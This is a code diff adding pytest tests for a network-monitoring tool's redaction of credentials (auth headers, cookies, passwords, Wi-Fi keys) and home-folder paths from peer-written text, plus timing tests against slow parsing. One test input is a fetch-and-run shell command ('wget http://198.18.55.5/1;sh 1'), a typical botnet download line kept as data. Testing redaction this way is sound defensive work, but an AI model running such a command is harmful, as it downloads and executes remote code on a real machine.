@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import io
 import sys
+import time
 from collections.abc import Iterator
 from dataclasses import replace
 from ipaddress import IPv6Address, ip_address, ip_network
@@ -24,7 +25,9 @@ from rearguard.report.analysis import Analysis, SamplingLine
 from rearguard.report.charts import Studio
 from rearguard.report.charts.data import chart_data
 from rearguard.report.inventory import load_inventory
+from rearguard.report.pseudonyms import Pseudonyms
 from rearguard.report.share import redacted
+from rearguard.report.share_texts import SharedTexts
 from rearguard.report.subscribers import load_subscribers
 
 HOUSE = "/home/anna/captures of Exampletown"
@@ -232,3 +235,54 @@ def test_networks_that_leave_no_room_are_refused(networks: str) -> None:
 
 def test_an_analysis_in_which_nothing_happened_can_be_shared() -> None:
     assert redacted(nothing()).findings == ()
+
+
+@pytest.mark.parametrize(
+    ("text", "told"),
+    [
+        ("Authorization: Basic dXNlcjp4", "Authorization: Basic (withheld)"),
+        (
+            "authorization:Digest username=a, response=b\r\nHost: x",
+            "authorization:Digest (withheld)\r\nHost: x",
+        ),
+        ("Cookie: sid=4711; lang=de", "Cookie: (withheld)"),
+        ("user=x&password=p%40ss&go=1", "user=x&password=(withheld)&go=1"),
+        ("wpa_psk = hunter2; echo", "wpa_psk = (withheld); echo"),
+        ("<NewPassword>abc</NewPassword>", "<NewPassword>(withheld)</NewPassword>"),
+        (
+            '<PreSharedKey xsi:type="xsd:string">abc</PreSharedKey>',
+            '<PreSharedKey xsi:type="xsd:string">(withheld)</PreSharedKey>',
+        ),
+        ("http://admin:admin@203.0.113.9/", "http://(withheld)@203.0.113.9/"),
+        ("wget http://198.18.55.5/1;sh 1", "wget http://198.18.55.5/1;sh 1"),
+        ("answered without being authorised: 3 of 4", "answered without being authorised: 3 of 4"),
+        ("passage to the monkey island", "passage to the monkey island"),
+    ],
+)
+def test_credentials_in_what_a_peer_wrote_are_left_out(text: str, told: str) -> None:
+    assert SharedTexts(Pseudonyms([], b"key"), {}, ()).payload(text) == told
+
+
+@pytest.mark.parametrize(
+    "text", ["pass" * 20_000, "<" * 50_000, "://a:" * 20_000, "a/" * 30_000, "=:" * 40_000]
+)
+def test_a_long_text_of_a_peer_is_read_in_short_time(text: str) -> None:
+    texts = SharedTexts(Pseudonyms([], b"key"), {}, ())
+    begun = time.process_time()
+    texts.payload(text)
+    texts.place(text)
+    assert time.process_time() - begun < 5
+
+
+@pytest.mark.parametrize(
+    ("text", "told"),
+    [
+        ("/home/anna/net/rearguard.yaml:3: odd", "rearguard.yaml:3: odd"),
+        ("captures/monday/x.pcap: cut", "x.pcap: cut"),
+        ("~/x/y.csv", "y.csv"),
+        ("/var/spool/rearguard is full", "rearguard is full"),
+        ("drop tcp/7547 toward 203.0.113.0/24", "drop tcp/7547 toward 203.0.113.0/24"),
+    ],
+)
+def test_folders_of_the_house_are_left_out(text: str, told: str) -> None:
+    assert SharedTexts(Pseudonyms([], b"key"), {}, ()).place(text) == told
